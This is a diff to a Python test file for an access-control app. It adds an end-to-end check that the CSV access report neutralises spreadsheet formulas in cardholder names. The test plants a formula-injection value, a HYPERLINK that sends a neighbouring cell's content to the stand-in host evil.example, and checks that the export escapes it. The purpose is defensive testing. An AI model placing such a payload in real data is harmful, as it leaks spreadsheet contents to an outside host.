@@ -7,8 +7,9 @@ import io
 import re
 from datetime import UTC, datetime, timedelta
 
-from mailwarden.access import views
+from mailwarden.access import services, views
 from mailwarden.core.roles import Role
+from tests.factories import ADMIN
 
 from .conftest import badge, event, ingest
 
@@ -144,7 +145,16 @@ def test_the_report_defaults_to_the_last_30_days(as_role, mailroom, frozen_clock
     assert 'value="2026-01-31"' in page and 'value="2026-03-02"' in page
 
 
-def test_csv_cells_cannot_run_as_formulas():
-    assert views._cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
-    assert views._cell("@SUM(A1)") == "'@SUM(A1)"
-    assert views._cell("Ann") == "Ann"
+def test_the_csv_cannot_run_a_name_as_a_formula(as_role, mailroom, frozen_clock):
+    m = mailroom
+    # The old check looked at the first character only: a leading quote walked past it.
+    sneaky = '"=HYPERLINK("http://evil.example/?"&A1,"Alice")'
+    services.credentials.update_cardholder(ADMIN, m.alice.pk, name=sneaky, kind=m.alice.kind)
+    at = datetime(2026, 3, 1, 15, 30, tzinfo=UTC)
+    ingest(m, badge(m, at, m.alice, m.alice_card, reader="q-in", door="quarantine"))
+    client = as_role(Role.AUDITOR)
+    response = client.get("/access/report.csv?since=2026-03-01&until=2026-03-01")
+    text = response.content.decode()
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["person"] == "'" + sneaky
+    assert text.splitlines()[0].startswith('"')  # every cell quoted
